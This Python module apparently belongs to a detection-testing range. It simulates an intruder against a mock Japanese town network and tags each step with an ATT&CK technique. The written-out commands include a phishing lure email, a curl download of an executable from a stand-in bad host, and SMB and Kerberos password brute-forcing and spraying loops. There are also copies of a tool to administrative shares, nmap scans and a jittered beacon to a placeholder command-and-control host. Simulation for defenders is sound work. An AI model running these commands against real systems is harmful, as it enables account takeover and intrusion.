# SPDX-License-Identifier: Apache-2.0
"""The intruder's acts, played with ordinary tools against the town's own servers only."""

import random

from . import plan, work
from .work import CURL

BEACON_TLS = "--tls-max 1.2 --no-alpn --ciphers ECDHE-ECDSA-AES128-GCM-SHA256:AES128-SHA"
WRONG = [
    "haru2026",
    "natsu2026",
    "password",
    "komorebi",
    "P@ssw0rd",
    "backup",
    "backup1",
    "admin",
    "kaikei",
    "123456",
]


def mail_lure(p):
    """An invoice lure reaches the accounting section; its link leads to the bad download."""
    work.send_mail(
        p,
        "outside",
        "keiri@seikyu-update.example",
        f"sato@{plan.DOMAIN}",
        "【至急】請求書の再送について",
        "佐藤様\n\n請求書を再送します。下記より表示ソフトを更新してください。\n"
        "http://dl.seikyu-update.example/seikyu_viewer.exe\n",
        charset="utf-8",
        server=plan.host("mail1").ipv4,
    )


def download(p, host):
    """Load the listed bad program over HTTP."""
    with p.event(
        "known-bad",
        host,
        "outside",
        "loads a program from a listed bad place",
        "既知の不正サイトからプログラムを取得",
        technique="T1105",
        ip=plan.PLACES["dl.seikyu-update.example"],
        name="dl.seikyu-update.example",
    ):
        p.on(
            host,
            "curl -sS -m 20 -A 'Mozilla/4.0' -o /tmp/seikyu_viewer.exe"
            " http://dl.seikyu-update.example/seikyu_viewer.exe",
        )


def bad_address(p, host):
    """Contact a listed bad address without a name."""
    with p.event(
        "known-bad",
        host,
        "outside",
        "contacts a listed bad address",
        "既知の不正アドレスに接続",
        technique="T1071",
        ip=plan.PLACES["dl.seikyu-update.example"],
    ):
        p.on(host, f"{CURL} http://{plan.PLACES['dl.seikyu-update.example']}/ping", check=False)


def guess_smb(p, host, user="svc-backup", tries=30, then_right=True):
    """Many wrong passwords for one account over SMB (NTLM), then the right one."""
    with p.event(
        "brute-force",
        host,
        "fs1",
        f"{tries} wrong passwords for one account over SMB",
        f"1つのアカウントに{tries}回の誤パスワード（SMB）",
        technique="T1110.001",
        user=user,
        count=tries,
    ):
        p.on(
            host,
            f"""W=({' '.join(WRONG)})
for i in $(seq 0 {tries - 1}); do
    smbclient //fs1/IPC$ -U "KOMOREBI\\{user}%${{W[$((i % {len(WRONG)}))]}}$((i / {len(WRONG)}))" -c quit >/dev/null 2>&1; sleep 0.2
done; true""",
        )
    if then_right:
        with p.event(
            "success-after-failures",
            host,
            "fs1",
            "the right password at last",
            "ついに正しいパスワード",
            technique="T1078.002",
            user=user,
        ):
            p.on(
                host,
                f"smbclient //fs1/IPC$ -U 'KOMOREBI\\{user}%'\"$TOWN_PASSWORD\" -c quit"
                " >/dev/null 2>&1; true",
            )


def guess_kerberos(p, host, user="administrator", tries=15):
    """Many wrong passwords for one account at the domain controller (Kerberos)."""
    with p.event(
        "brute-force",
        host,
        "dc1",
        f"{tries} wrong passwords for one account over Kerberos",
        f"1つのアカウントに{tries}回の誤パスワード（Kerberos）",
        technique="T1110.001",
        user=user,
        count=tries,
    ):
        p.on(
            host,
            f"for i in $(seq {tries}); do echo wrong$i | kinit -c /tmp/cc_x {user} >/dev/null"
            " 2>&1; sleep 0.3; done; true",
        )


def spray(p, host, over=("smb", "kerberos")):
    """One guessable password for every account, once each."""
    users = [u for u, _ in plan.PEOPLE] + ["admin", "guest01", "tencho"]
    if "smb" in over:
        with p.event(
            "spraying",
            host,
            "fs1",
            f"one password tried on {len(users)} accounts over SMB",
            f"1つのパスワードを{len(users)}アカウントに試行（SMB）",
            technique="T1110.003",
            count=len(users),
        ):
            p.on(
                host,
                f"for u in {' '.join(users)}; do smbclient //fs1/IPC$ -U"
                ' "KOMOREBI\\\\$u%Aki2026!" -c quit >/dev/null 2>&1; sleep 0.2; done; true',
            )
    if "kerberos" in over:
        with p.event(
            "spraying",
            host,
            "dc1",
            f"one password tried on {len(users)} accounts over Kerberos",
            f"1つのパスワードを{len(users)}アカウントに試行（Kerberos）",
            technique="T1110.003",
            count=len(users),
        ):
            p.on(
                host,
                f"for u in {' '.join(users)}; do echo 'Fuyu2026!' | kinit -c /tmp/cc_x $u"
                " >/dev/null 2>&1; sleep 0.2; done; true",
            )


def admin_share(p, host, user="svc-backup"):
    """Copy a program to the file server's hidden administrative shares."""
    for share, path in (("C$", "Windows/Temp"), ("ADMIN$", "Temp")):
        with p.event(
            "admin-share",
            host,
            "fs1",
            f"copies a program to {share}",
            f"管理共有{share}へプログラムを複製",
            technique="T1021.002",
            user=user,
            share=share,
            file=f"{path}/kanri_tool.exe",
        ):
            p.on(
                host,
                f"cd /root && smbclient '//fs1/{share}' -U"
                f" 'KOMOREBI\\{user}%'\"$TOWN_PASSWORD\" -c 'cd {path}; put kanri_tool.exe; ls'"
                " >/dev/null",
            )


def port_scan(p, host, target="fs1", ports=300):
    """SYN scan of the most usual ports of one server."""
    with p.event(
        "port-scan",
        host,
        target,
        f"SYN scan of {ports} ports",
        f"{ports}ポートのSYNスキャン",
        technique="T1046",
        count=ports,
    ):
        p.on(
            host,
            f"nmap -sS -n -Pn --top-ports {ports} --max-retries 1 -T4 {plan.host(target).ipv4}"
            " >/dev/null",
        )


def host_scan(p, host, port=None):
    """Look for live hosts: ping sweep of the servers' segment, ARP of the own one; port 445 over both."""
    with p.event(
        "host-scan",
        host,
        "10.20.0.0/26",
        "looks for live hosts",
        "稼働ホストの探索",
        technique="T1018",
    ):
        p.on(
            host,
            "nmap -sn -n -T4 --max-retries 1 10.20.0.0/26 >/dev/null; nmap -sn -n -T4"
            " 10.20.1.96/27 >/dev/null",
        )
    with p.event(
        "host-scan",
        host,
        "10.20.0.0/26",
        "looks for file sharing (port 445) on many hosts",
        "多数のホストに445番ポートを探索",
        technique="T1046",
        port=445,
    ):
        p.on(host, "nmap -sS -n -Pn -p 445 -T4 --max-retries 1 10.20.0.0/26 >/dev/null")


def beacon(p, host, seconds, every, jitter=0.2, tls=False, wait=True):
    """Call back to one outside place at a jittered interval."""
    kind = "https" if tls else "http"
    pick = random.Random(len(kind) * 1000 + seconds)
    rests = []
    while sum(rests) < seconds:
        rests.append(round(every * (1 + pick.uniform(-jitter, jitter)), 3))
    call = (
        f"{CURL} -k {BEACON_TLS} -A 'Mozilla/5.0' -d 'id=7f3a&s=0'"
        " https://sync.hikari-cdn.example/v1/report"
        if tls
        else (
            f"{CURL} -A 'Mozilla/4.0 (compatible; MSIE 8.0)'"
            " 'http://sync.hikari-cdn.example/tasks?id=7f3a'"
        )
    )
    script = f"for r in {' '.join(map(str, rests))}; do {call}; sleep $r; done; true"
    with p.event(
        "beacon",
        host,
        "outside",
        f"calls back every {every:g} s ±{jitter:.0%} over {kind}",
        f"{every:g}秒±{jitter:.0%}ごとに外部へ通信（{kind}）",
        technique="T1071.001" if not tls else "T1573",
        ip=plan.PLACES["sync.hikari-cdn.example"],
        name="sync.hikari-cdn.example",
        interval_s=every,
        count=len(rests),
    ) as event:
        if wait:
            p.on(host, script, timeout=seconds * 2 + 60)
        else:
            p.background(host, script, event)


def random_names(p, host, count=80):
    """Ask for many random names that do not exist."""
    pick = random.Random(80)
    names = [
        "".join(
            pick.choice("abcdefghijklmnopqrstuvwxyz0123456789")
            for _ in range(pick.randrange(12, 20))
        )
        + ".example"
        for _ in range(count)
    ]
    with p.event(
        "random-names",
        host,
        "ns1",
        f"asks for {count} random names, none exists",
        f"実在しない乱数名を{count}件照会",
        technique="T1568.002",
        count=count,
    ):
        p.on(
            host,
            f"for n in {' '.join(names)}; do dig +tries=1 +time=2 +short $n >/dev/null; sleep"
            " 0.1; done; true",
        )


def self_test(p, host):
    """Every harmless trigger of the self-test, one per protocol."""
    st = plan.SELF_TEST
    acts = [
        ("dns", "ns1", f"dig +short {plan.SELF_TEST_NAME}"),
        ("http", "web1", f"{CURL} http://portal.{plan.DOMAIN}/{st}"),
        ("smb", "fs1", f"smbclient //fs1/IPC$ -U 'KOMOREBI\\{st}%x' -c quit"),
        ("kerberos", "dc1", f"echo x | kinit -c /tmp/cc_x {st}"),
        ("icmp", "fs1", f"ping -c 2 -p {b'kidoban-selftest'.hex()} {plan.host('fs1').ipv4}"),
        (
            "smtp",
            "mail1",
            (
                f"swaks --server mail1.{plan.DOMAIN} --helo $(hostname).local --from"
                f" sato@{plan.DOMAIN} --to sato@{plan.DOMAIN} --h-Subject {st} --body {st}"
            ),
        ),
        (
            "file",
            "fs1",
            (
                f"cd /tmp; echo {st} > {st}.txt; smbclient //fs1/kyoyu -U"
                f" 'KOMOREBI\\sato%'\"$TOWN_PASSWORD\" -c 'put {st}.txt; del {st}.txt'"
            ),
        ),
    ]
    for protocol, target, command in acts:
        with p.event(
            "self-test",
            host,
            target,
            f"self-test trigger: {protocol}",
            f"動作確認の合図：{protocol}",
            protocol=protocol,
        ):
            p.on(host, f"( {command} ) >/dev/null 2>&1; true")
